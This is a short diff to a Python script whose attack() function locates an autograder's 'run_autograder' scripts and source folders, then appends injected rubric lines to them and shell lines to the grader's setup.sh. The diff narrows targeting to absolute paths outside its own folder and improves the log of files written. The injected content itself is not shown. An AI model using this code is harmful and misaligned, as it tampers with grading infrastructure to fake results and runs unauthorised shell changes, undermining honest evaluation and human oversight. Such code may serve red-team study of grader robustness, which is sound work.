@@ -89,7 +89,8 @@ def places():
         scripts += [os.path.join(root, "run_autograder"), os.path.join(root, "source", "run_autograder")]
         sources.append(os.path.join(root, "source"))
     sources += [os.path.dirname(script) for script in scripts]
-    return list(dict.fromkeys(scripts)), list(dict.fromkeys(sources))
+    absolute = [place for place in scripts + sources if os.path.isabs(place)]  # never our own folder
+    return [s for s in dict.fromkeys(scripts) if s in absolute], [s for s in dict.fromkeys(sources) if s in absolute]
 
 
 def append(path, text):
@@ -134,7 +135,7 @@ def attack():
             if append(path, RUBRIC_LINES):
                 done.append(f"appended to {path}")
         if append(os.path.join(source, "setup.sh"), SHELL_LINES):
-            done.append("appended to setup.sh")
+            done.append(f"appended to {os.path.join(source, 'setup.sh')}")
     print("append_run_autograder:", done or "nothing was writable")
     return done
 
